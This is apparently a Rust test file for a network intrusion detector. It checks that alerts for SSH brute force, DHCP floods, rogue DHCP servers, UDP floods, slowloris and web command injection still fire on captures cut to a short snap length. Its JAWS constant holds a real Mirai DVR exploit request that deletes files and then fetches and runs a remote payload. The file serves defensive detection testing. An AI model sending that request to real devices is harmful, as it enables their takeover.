//! Captures cut at a snap length (64, 96, 128 bytes, as public DDoS and
//! backbone traces are): what the kept headers, length fields and payload
//! prefixes show must still be seen, and a head split across segments of
//! a whole capture must not pass for a cut one.

mod common;

use common::lan50::*;
use common::*;
use ward_core::Alert;

const ATK_END: End = (ATK_MAC, ATK, 46550);
const CAM_END: End = (CAM_MAC, CAM, 80);

/// Mirai's JAWS request as the demo capture has it: the request line alone
/// is 149 bytes, so a 96- or 128-byte snap length cuts it inside the target.
const JAWS: &str = "GET /shell?cd+/tmp;rm+-rf+*;wget+http://192.168.50.127/jaws;sh+/tmp/jaws HTTP/1.1\r\nHost: 192.168.50.175\r\nUser-Agent: Hello, World\r\nAccept: */*\r\n\r\n";

/// A handshake, then `segments` from the client, each kept whole or cut at
/// `snap` bytes of frame.
fn http_exchange(segments: &[&[u8]], snap: Option<usize>) -> Vec<Alert> {
    let mut r = Run::new();
    r.at(0, &tcp(ATK_END, CAM_END, 1000, "S", b""));
    r.at(100, &tcp(CAM_END, ATK_END, 5000, "SA", b""));
    r.at(200, &tcp(ATK_END, CAM_END, 1001, "A", b""));
    let mut seq = 1001u32;
    for (i, s) in segments.iter().enumerate() {
        let f = tcp(ATK_END, CAM_END, seq, "PA", s);
        match snap {
            Some(n) => r.at_cut(300 + i as i64 * 100, &f, n),
            None => r.at(300 + i as i64 * 100, &f),
        }
        seq = seq.wrapping_add(s.len() as u32);
    }
    r.alerts()
}

fn jaws_alerts(alerts: &[Alert]) -> Vec<&Alert> {
    alerts
        .iter()
        .filter(|a| a.signature == "jaws-dvr-shell-injection")
        .collect()
}

#[test]
fn an_exploit_request_line_cut_by_the_snap_length_is_still_matched() {
    for snap in [96, 128, 160] {
        let alerts = http_exchange(&[JAWS.as_bytes()], Some(snap));
        let jaws = jaws_alerts(&alerts);
        assert_eq!(jaws.len(), 1, "snap {snap}");
        let ev = &jaws[0].evidence;
        assert_eq!(ev["request_cut"], true, "snap {snap}");
        let uri = ev["uri"].as_str().unwrap();
        assert!(uri.starts_with("/shell?cd+/tmp") && uri.len() < 70, "{uri}");
    }
}

#[test]
fn a_request_split_across_whole_segments_is_not_a_cut_one() {
    // The same head in two segments, captured whole: one alert, on the
    // whole request, not marked cut.
    let (a, b) = JAWS.as_bytes().split_at(40);
    let alerts = http_exchange(&[a, b], None);
    let jaws = jaws_alerts(&alerts);
    assert_eq!(jaws.len(), 1);
    assert!(!jaws[0].evidence.contains_key("request_cut"));
    assert!(jaws[0].evidence["uri"]
        .as_str()
        .unwrap()
        .ends_with("/tmp/jaws"));
    // Its first segment alone (the rest never sent) is no request at all.
    let alerts = http_exchange(&[a], None);
    assert!(jaws_alerts(&alerts).is_empty());
}

#[test]
fn a_benign_request_cut_by_the_snap_length_raises_nothing() {
    let get = b"GET /ISAPI/System/deviceInfo?format=json&session=12345 HTTP/1.1\r\nHost: cam\r\nUser-Agent: Home/3.2 CFNetwork/1410.0.3 Darwin/22.6.0\r\nAccept: */*\r\n\r\n";
    for snap in [64, 96, 128] {
        let alerts = http_exchange(&[get, get, get], Some(snap));
        assert!(alerts.is_empty(), "snap {snap}");
    }
}

#[test]
fn ssh_password_guessing_shows_in_a_header_only_capture() {
    // Nine short SSH connections, every frame cut after its TCP header
    // (54 bytes): only the IP and TCP lengths say that both sides talked.
    let mut r = Run::new();
    let banner = b"SSH-2.0-OpenSSH_8.4p1 Debian-5\r\n";
    let kex = [0u8; 600];
    for i in 0..9u16 {
        let t = i64::from(i) * 2_000_000;
        let c: End = (ATK_MAC, ATK, 40000 + i);
        let s: End = (CAM_MAC, CAM, 22);
        let frames = [
            tcp(c, s, 100, "S", b""),
            tcp(s, c, 900, "SA", b""),
            tcp(c, s, 101, "A", b""),
            tcp(s, c, 901, "PA", banner),
            tcp(c, s, 101, "PA", b"SSH-2.0-libssh2_1.9.0\r\n"),
            tcp(s, c, 901 + banner.len() as u32, "PA", &kex),
            tcp(c, s, 124, "PA", &kex),
            tcp(s, c, 1501 + banner.len() as u32, "FA", b""),
            tcp(c, s, 724, "FA", b""),
        ];
        for (k, f) in frames.iter().enumerate() {
            r.at_cut(t + k as i64 * 1000, f, 54);
        }
    }
    let alerts = r.alerts();
    assert!(
        alerts.iter().any(|a| a.signature == "ssh-bruteforce"),
        "{alerts:?}"
    );
}

/// A DHCP client message (BOOTREQUEST) of type `kind` from `mac`, as
/// 240 bytes of fixed header and cookie, option 53, a parameter request
/// list and END.
fn dhcp_request(mac: Mac, xid: u32, kind: u8) -> Vec<u8> {
    let mut m = vec![0u8; 240];
    m[0] = 1; // BOOTREQUEST
    m[1] = 1; // Ethernet
    m[2] = 6;
    m[4..8].copy_from_slice(&xid.to_be_bytes());
    m[28..34].copy_from_slice(&mac);
    m[236..240].copy_from_slice(&[99, 130, 83, 99]);
    m.extend_from_slice(&[53, 1, kind, 55, 4, 1, 3, 6, 15, 255]);
    udp(
        (mac, [0, 0, 0, 0], 68),
        ([0xff; 6], [255, 255, 255, 255], 67),
        &m,
    )
}

#[test]
fn a_dhcp_flood_shows_when_the_snap_length_cut_every_message_type() {
    // 200 REQUESTs in two seconds, each cut at 96 or 128 bytes: the message
    // type (option 53) is gone, the fixed header says who sent what.
    for snap in [96, 128] {
        let mut r = Run::new();
        for i in 0..200u32 {
            let f = dhcp_request(ATK_MAC, 0x1000 + i, 3);
            r.at_cut(i64::from(i) * 10_000, &f, snap);
        }
        let alerts = r.alerts();
        assert!(
            alerts.iter().any(|a| a.signature == "dhcp-flood"),
            "snap {snap}: {alerts:?}"
        );
    }
    // A device joining (DISCOVER, REQUEST) and renewing, cut alike: quiet.
    let mut r = Run::new();
    for (i, kind) in [1u8, 3, 3, 3].into_iter().enumerate() {
        let f = dhcp_request(PHONE_MAC, 7, kind);
        r.at_cut(i as i64 * 30_000_000, &f, 128);
    }
    assert!(r.alerts().is_empty());
}

#[test]
fn a_random_port_udp_flood_cut_to_its_headers_is_a_flood_not_a_scan() {
    // Mirai's `udp` attack: 512-byte datagrams to a random port each, 500
    // a second, every frame cut at 64 bytes (22 of the 512 kept). The UDP
    // length still says how big they were: no scanner sends such probes.
    let mut r = Run::new();
    let mut x = 7u32;
    for i in 0..2000i64 {
        x = x.wrapping_mul(1_103_515_245).wrapping_add(12_345);
        let dp = (x >> 16) as u16 | 1;
        let f = udp((ATK_MAC, ATK, 40000), (CAM_MAC, CAM, dp), &[0x5a; 512]);
        r.at_cut(1_000_000 + i * 2000, &f, 64);
    }
    let alerts = r.alerts();
    assert!(
        alerts.iter().any(|a| a.signature == "udp-flood"),
        "{alerts:?}"
    );
    assert!(
        !alerts.iter().any(|a| a.category.as_str() == "recon"),
        "{alerts:?}"
    );
}

/// A DHCP server's BOOTREPLY (an ACK with its server id) from `src`.
fn dhcp_reply(src: (Mac, V4), server_id: V4, xid: u32) -> Vec<u8> {
    let mut m = vec![0u8; 240];
    m[0] = 2; // BOOTREPLY
    m[1] = 1;
    m[2] = 6;
    m[4..8].copy_from_slice(&xid.to_be_bytes());
    m[28..34].copy_from_slice(&PHONE_MAC);
    m[236..240].copy_from_slice(&[99, 130, 83, 99]);
    m.extend_from_slice(&[53, 1, 5, 54, 4]);
    m.extend_from_slice(&server_id);
    m.push(255);
    udp(
        (src.0, src.1, 67),
        ([0xff; 6], [255, 255, 255, 255], 68),
        &m,
    )
}

fn rogue_alerts(alerts: &[Alert]) -> usize {
    alerts
        .iter()
        .filter(|a| a.signature == "rogue-dhcp-server")
        .count()
}

#[test]
fn a_second_dhcp_server_shows_in_cut_replies_when_its_mac_names_it() {
    // The network's server, then another on the LAN (its own MAC and
    // address), both cut at 128 bytes: option 54 is gone, the sender is not.
    let mut r = Run::new();
    r.at_cut(0, &dhcp_reply((GW_MAC, GW), GW, 1), 128);
    r.at_cut(1_000_000, &dhcp_reply((ATK_MAC, ATK), ATK, 2), 128);
    assert_eq!(rogue_alerts(&r.alerts()), 1);
}

#[test]
fn relayed_dhcp_replies_in_header_only_raw_ip_are_no_rogue_servers() {
    // One server behind relay agents: in raw IP cut at 64 bytes every reply
    // shows only the relay it came from (no MAC, no option 54). Captured
    // whole, option 54 names the one server.
    for cut in [true, false] {
        let mut r = Run::new();
        for i in 0..5u8 {
            let relay: V4 = [10, 0, i, 1];
            let f = dhcp_reply((GW_MAC, relay), [10, 9, 9, 9], u32::from(i));
            if cut {
                r.at_raw_cut(i64::from(i) * 1_000_000, &f, 64);
            } else {
                r.at_raw_cut(i64::from(i) * 1_000_000, &f, f.len());
            }
        }
        assert_eq!(rogue_alerts(&r.alerts()), 0, "cut: {cut}");
    }
}

/// The signatures `request` raises when its frame is cut `kept` bytes
/// into the request (a snap length of 54 header bytes plus `kept`).
fn signatures_cut_at(request: &str, kept: usize) -> Vec<String> {
    http_exchange(&[request.as_bytes()], Some(54 + kept))
        .into_iter()
        .map(|a| a.signature.to_string())
        .collect()
}

#[test]
fn where_the_snap_length_cuts_a_target_is_not_where_it_ends() {
    // Benign targets cut right after a word that, at a target's end, is a
    // command: `cmd=identify` read as `cmd=id`, `lamp;shade` as `lamp;sh`,
    // `';selection` as `';select`.
    for (req, word) in [
        (
            "GET /api/set?cmd=identify&led=on HTTP/1.1\r\nHost: cam\r\n\r\n",
            "cmd=id",
        ),
        (
            "GET /shop/list?items=lamp;shade;rug HTTP/1.1\r\nHost: cam\r\n\r\n",
            "lamp;sh",
        ),
        (
            "GET /q?a='x';selection=all HTTP/1.1\r\nHost: cam\r\n\r\n",
            ";select",
        ),
    ] {
        let whole = http_exchange(&[req.as_bytes()], None);
        assert!(whole.is_empty(), "{req:?} whole: {whole:?}");
        let kept = req.find(word).unwrap() + word.len();
        let sigs = signatures_cut_at(req, kept);
        assert!(sigs.is_empty(), "{req:?} cut at {kept}: {sigs:?}");
    }
    // The same expressions still match what lies before the cut.
    let req = "GET /api/set?cmd=id&led=on HTTP/1.1\r\nHost: cam\r\n\r\n";
    let kept = req.find("&le").unwrap() + 3;
    assert_eq!(signatures_cut_at(req, kept), ["web-command-injection"]);
}

#[test]
fn relayed_dhcp_replies_cut_on_ethernet_are_no_rogue_servers() {
    // One server (10.9.9.9) behind two relay agents, as a tap at the core
    // sees it: the server's answer to each relay (to its giaddr) and each
    // relay's answer to its subnet (from its giaddr), every agent with its
    // own MAC. Cut at 128 bytes no reply keeps option 54, so each names
    // only its sender; captured whole, option 54 names the one server.
    const SERVER_MAC: Mac = [0x00, 0x50, 0x56, 0x00, 0x00, 0x09];
    let relayed = |src: (Mac, V4), dst: (Mac, V4, u16), giaddr: V4, xid: u32| {
        let mut m = vec![0u8; 240];
        m[0] = 2; // BOOTREPLY
        m[1] = 1;
        m[2] = 6;
        m[4..8].copy_from_slice(&xid.to_be_bytes());
        m[16..20].copy_from_slice(&[giaddr[0], giaddr[1], giaddr[2], 50]);
        m[24..28].copy_from_slice(&giaddr);
        m[28..34].copy_from_slice(&PHONE_MAC);
        m[236..240].copy_from_slice(&[99, 130, 83, 99]);
        m.extend_from_slice(&[53, 1, 5, 54, 4, 10, 9, 9, 9, 255]);
        udp((src.0, src.1, 67), dst, &m)
    };
    for cut in [true, false] {
        let mut r = Run::new();
        for i in 0..2u8 {
            let giaddr: V4 = [10, 0, i, 1];
            let relay_mac: Mac = [0x00, 0x0d, 0xb9, 0x00, 0x01, i];
            let t = i64::from(i) * 2_000_000;
            let frames = [
                relayed(
                    (SERVER_MAC, [10, 9, 9, 9]),
                    (relay_mac, giaddr, 67),
                    giaddr,
                    u32::from(i),
                ),
                relayed(
                    (relay_mac, giaddr),
                    ([0xff; 6], [255, 255, 255, 255], 68),
                    giaddr,
                    u32::from(i),
                ),
            ];
            for (k, f) in frames.iter().enumerate() {
                let snap = if cut { 128 } else { f.len() };
                r.at_cut(t + k as i64 * 1000, f, snap);
            }
        }
        assert_eq!(rogue_alerts(&r.alerts()), 0, "cut: {cut}");
    }
    // A giaddr alone is no relay's leg: a second server on the LAN that
    // writes one (neither its own address nor the one it sends to) is
    // still a rogue one.
    let mut r = Run::new();
    r.at_cut(0, &dhcp_reply((GW_MAC, GW), GW, 1), 128);
    let bcast = ([0xff; 6], [255, 255, 255, 255], 68);
    let rogue = relayed((ATK_MAC, ATK), bcast, [10, 0, 7, 1], 2);
    r.at_cut(1_000_000, &rogue, 128);
    assert_eq!(rogue_alerts(&r.alerts()), 1);
}

#[test]
fn dhcp_starvation_shows_when_the_snap_length_cut_every_message_type() {
    // 60 DISCOVERs, each from a made-up client MAC (in the fixed header and
    // as the frame's source), one every half second, cut at 128 bytes: the
    // type is gone, the client addresses are not. Too slow for a flood.
    let mut r = Run::new();
    for i in 0..60u8 {
        let mac: Mac = [0x02, 0x5a, 0, 0, 1, i];
        let f = dhcp_request(mac, u32::from(i), 1);
        r.at_cut(i64::from(i) * 500_000, &f, 128);
    }
    let sigs: Vec<String> = r.alerts().iter().map(|a| a.signature.to_string()).collect();
    assert_eq!(sigs, ["dhcp-starvation"]);
}

#[test]
fn a_one_way_mpeg_ts_stream_cut_by_the_snap_length_is_no_flood() {
    // A camera's MPEG-TS stream to a recorder: 7 TS packets (1316 bytes)
    // a datagram, 2000 a second for 5 seconds, one way. Cut at 128 bytes
    // the kept start still shows the sync bytes; the size is the sent one.
    let mut ts = Vec::with_capacity(1316);
    for i in 0..7u8 {
        let mut p = [i; 188];
        p[0] = 0x47;
        ts.extend_from_slice(&p);
    }
    for snap in [None, Some(128)] {
        let mut r = Run::new();
        let f = udp((CAM_MAC, CAM, 40000), (PHONE_MAC, PHONE, 5000), &ts);
        for i in 0..10_000i64 {
            match snap {
                Some(n) => r.at_cut(i * 500, &f, n),
                None => r.at(i * 500, &f),
            }
        }
        let alerts = r.alerts();
        assert!(alerts.is_empty(), "snap {snap:?}: {alerts:?}");
    }
}

#[test]
fn slowloris_shows_in_a_header_only_capture() {
    // 60 connections, each sending an unfinished head and a header line
    // every five seconds, the server only acknowledging; every frame cut
    // after its TCP header (54 bytes): the IP length says the client sent
    // data, which is all a held connection is judged by.
    let mut frames = Vec::new();
    for i in 0..60u16 {
        let t = 1_000_000 + i64::from(i) * 10_000;
        let c: End = (ATK_MAC, ATK, 40000 + i);
        let s: End = CAM_END;
        let lines: [&[u8]; 3] = [
            b"GET / HTTP/1.1\r\nHost: cam\r\nUser-Agent: x\r\n",
            b"X-abc: 1\r\n",
            b"X-def: 2\r\n",
        ];
        frames.push((t, tcp(c, s, 100, "S", b"")));
        frames.push((t + 500, tcp(s, c, 900, "SA", b"")));
        frames.push((t + 900, tcp(c, s, 101, "A", b"")));
        let mut seq = 101u32;
        for (k, line) in lines.iter().enumerate() {
            let at = t + 1_000 + k as i64 * 5_000_000;
            frames.push((at, tcp(c, s, seq, "PA", line)));
            seq += line.len() as u32;
            frames.push((at + 500, tcp(s, c, 901, "A", b"")));
        }
    }
    frames.sort_by_key(|(t, _)| *t);
    let mut r = Run::new();
    for (t, f) in &frames {
        r.at_cut(*t, f, 54);
    }
    let alerts = r.alerts();
    assert!(
        alerts.iter().any(|a| a.signature == "slow-http-dos"),
        "{alerts:?}"
    );
}
